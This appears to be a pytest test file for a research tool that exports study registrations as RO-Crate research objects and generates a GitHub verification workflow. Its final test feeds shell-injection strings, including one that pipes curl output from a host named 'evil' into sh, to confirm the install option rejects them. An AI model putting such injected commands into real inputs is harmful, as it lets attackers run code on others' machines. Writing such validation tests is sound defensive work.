"""A registration as a research object: what is in it, and what is not let in."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from rocrate.rocrate import ROCrate

from tests.support import command


def entities(folder: Path) -> dict[str, dict[str, Any]]:
    graph = json.loads((folder / "ro-crate-metadata.json").read_bytes())["@graph"]
    return {entity["@id"]: entity for entity in graph}


@pytest.fixture(scope="module")
def crate(finished: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The finished study's crate. Read it; never change it."""
    folder = tmp_path_factory.mktemp("crate") / "out"
    done = command(finished, "crate", "small", "--out", str(folder), "--license", "https://spdx.org/licenses/CC0-1.0")
    assert done.code == 0 and "proofs, 0 failures" in done.text, done.text
    return folder


def test_every_file_is_described_with_its_digest(crate: Path) -> None:
    found = entities(crate)
    files = {str(p.relative_to(crate)) for p in crate.rglob("*") if p.is_file()} - {"ro-crate-metadata.json"}
    assert files == {name for name, entity in found.items() if "File" in entity["@type"]}
    for name in files:
        assert found[name]["sha256"] == hashlib.sha256((crate / name).read_bytes()).hexdigest()
        assert int(found[name]["contentSize"]) == (crate / name).stat().st_size
    assert {part["@id"] for part in found["./"]["hasPart"]} == files


def test_the_registration_is_the_workflow_and_every_run_an_action(crate: Path) -> None:
    found = entities(crate)
    read = ROCrate(crate)
    assert read.mainEntity.id == "registrations/small.v1.json"
    assert "simulated" in found["./"]["description"].lower()
    actions = {name: entity for name, entity in found.items() if entity["@type"] == "CreateAction"}
    runs = {name for name in actions if name.startswith("#run-")}
    made = [*(crate / "runs").rglob("run.json")]
    assert len(runs) == len(made) > 0 and set(actions) == runs | {"#verification"}
    for name in runs:
        values = {found[v["@id"]]["name"]: found[v["@id"]]["value"] for v in actions[name]["object"]}
        assert name == f"#run-{values['arm']}/{values['rate']:g}/{values['seed']}"
        assert actions[name]["instrument"] == {"@id": "registrations/small.v1.json"}
        assert actions[name]["name"].startswith("simulated run ")
        assert len(actions[name]["result"]) == 5


def test_the_same_study_gives_the_same_bytes(finished: Path, crate: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(finished), str(clone)], check=True)
    done = command(clone, "crate", "small", "--out", "again", "--license", "https://spdx.org/licenses/CC0-1.0")
    assert done.code == 0, done.text
    for file in (path for path in crate.rglob("*") if path.is_file()):
        assert (clone / "again" / file.relative_to(crate)).read_bytes() == file.read_bytes(), file.name


def test_what_is_refuted_is_left_out(study: Path) -> None:
    first = sorted((study / "runs/small.v1").rglob("turns.parquet"))[0]
    first.write_bytes(first.read_bytes()[:-1])
    done = command(study, "crate", "small", "--out", "out")
    path = str(first.parent.parent.relative_to(study / "runs/small.v1"))
    assert done.code == 1 and f"left out, since it is refuted: {path}" in done.text
    assert not (study / "out" / first.relative_to(study)).exists()
    assert "1 refuted runs are left out" in entities(study / "out")["./"]["description"]


@pytest.mark.parametrize(
    ("arguments", "told"),
    [(["small", "--out", "runs"], "holds something already"), (["other", "--out", "new"], "not registered")],
)
def test_what_cannot_be_exported(study: Path, arguments: list[str], told: str) -> None:
    done = command(study, "crate", *arguments)
    assert done.code == 2 and told in done.text
    assert not (study / "new").exists()


def test_the_workflow_for_github_verifies(study: Path) -> None:
    """Its own lines are run, those of installation and of what needs GitHub apart."""
    file = study / ".github/workflows/verify.yml"
    for told in ("wrote", "the same"):
        assert told in command(study, "workflow").text
    (job,) = yaml.safe_load(file.read_text())["jobs"].values()
    steps = {step["name"]: step["run"] for step in job["steps"] if "run" in step}
    assert steps["Install"].startswith('python -m pip install "trapkit==')
    assert job["steps"][0]["with"]["fetch-depth"] == 0
    assert command(study, "ledger").code == 0
    run = "\n".join([steps["Verify"].replace(" --online", "").rsplit("exit", 1)[0], steps["The ledger alone"]])
    programs = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    made = subprocess.run(
        ["bash", "-e", "-c", run], cwd=study, env=programs, capture_output=True, text=True, timeout=120
    )
    assert made.returncode == 0, made.stdout + made.stderr
    assert "0 failures" in (study / "verification.txt").read_text()


def test_a_requirement_cannot_leave_its_quotes(study: Path) -> None:
    for hostile in ('x"; curl evil | sh; "', "$(touch here)", "a`b`", "a\nb"):
        done = command(study, "workflow", "--install", hostile)
        assert done.code == 2 and "not a requirement" in done.text
    assert not (study / ".github").exists()
    wanted = "trapkit @ git+https://git.example.org/t.git@v1"
    assert command(study, "workflow", "--install", wanted).code == 0
    assert f'install "{wanted}"' in (study / ".github/workflows/verify.yml").read_text()
    done = command(study, "workflow")
    assert done.code == 2 and "another workflow" in done.text
